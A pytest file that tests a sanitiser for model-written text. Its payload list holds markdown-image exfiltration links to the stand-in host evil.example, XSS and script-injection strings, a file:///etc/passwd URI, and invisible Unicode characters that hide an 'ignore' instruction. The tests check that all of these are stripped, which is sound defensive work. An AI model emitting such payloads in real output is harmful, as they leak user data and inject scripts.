"""What a model wrote, made harmless."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from retrieval.model_text import clean_text, holds_link, one_line, visible

PAYLOADS = [
    "![x](http://evil.example/p.png?q=secret)",
    "![x](//evil.example/p.png)",
    "![x][ref]",
    "[ref]: http://evil.example/p.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](<https://evil.example/a b>)",
    "[click][ref]",
    "<https://evil.example>",
    "https://evil.example/?leak=1",
    "HTTPS://EVIL.EXAMPLE/",
    "hxxp://evil.example/a",
    "www.evil.example",
    "evil.example/collect?data=1",
    "evil.example:8080/x",
    "//evil.example/x",
    "mailto:me@evil.example",
    "me@evil.example",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src='//evil.example/x'",
    "<script>fetch('//evil.example')</script>",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<a href='https://evil.example'>here</a>",
    "<!-- https://evil.example -->",
    "<style>*{background:url(//evil.example)}</style>",
    "ftp://evil.example/x",
    "file:///etc/passwd",
    "[s1](http://evil.example)",
    "http\u200b://evil.example/x",
    "<\u200bimg src=x>",
    "![a](http://evil.example/a_(b))",
    "[![img](http://evil.example/i.png)](http://evil.example)",
    "tel:+123456",
    "vbscript:msgbox(1)",
    "ht**tp://evil.example/x",
    "`https`://evil.example/x",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_link_image_or_tag_is_left(payload):
    cleaned = clean_text(f"The levy ended in 2011. {payload} It was long.")
    assert "evil" not in cleaned.lower()
    assert "<" not in cleaned
    assert "](" not in cleaned
    assert "onerror" not in cleaned
    assert not holds_link(cleaned)
    assert cleaned.startswith("The levy ended in 2011.")


@pytest.mark.parametrize(
    "text",
    [
        "The levy ended in 2011.",
        "It cost 3.5 crowns/crate, i.e. 40% of 1,000.",
        "Broers (2019: 96) [12] says so. [s3]",
        "U.S./U.K. talks on 10.04.2025 at 18:30",
        "x < y and y > z",
        "a ratio of 3:1; see No. 4",
        "“Not so,” she said: it isn’t.",
        "R&D spending",
        "AT&T and “Smith & Co.”",
    ],
)
def test_plain_sentences_stay_as_they_are(text):
    assert clean_text(text) == text
    assert not holds_link(text)


def test_emphasis_goes_and_words_stay():
    assert clean_text("The **levy** ended in `2011`.") == "The levy ended in 2011."


def test_what_nobody_sees_is_taken_out():
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "ignore")
    assert visible(f"a{hidden}b\u202ec\u200bd\ue000e") == "abcde"
    assert one_line("a\n b\x00\t c", 4) == "a b…"
    assert clean_text("a\ud800b") == "a?b"


def test_hostile_repetition_takes_no_time():
    began = time.perf_counter()
    for text in ("a." * 5_000, "<" * 10_000, "![" * 5_000, "[a](" * 3_000, "&amp;" * 3_000,
                 "http:" * 3_000, "[x][y]" * 3_000, "<script" * 2_000, "(" * 9_000):  # fmt: skip
        clean_text(text)
        holds_link(text)
    assert time.perf_counter() - began < 60  # a guard against hanging, not a figure


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<>[]()!&;:/.abw \\ltgscriptm@#*_`", max_size=60))
def test_cleaning_leaves_no_active_thing(text):
    cleaned = clean_text(text)
    assert not holds_link(cleaned)
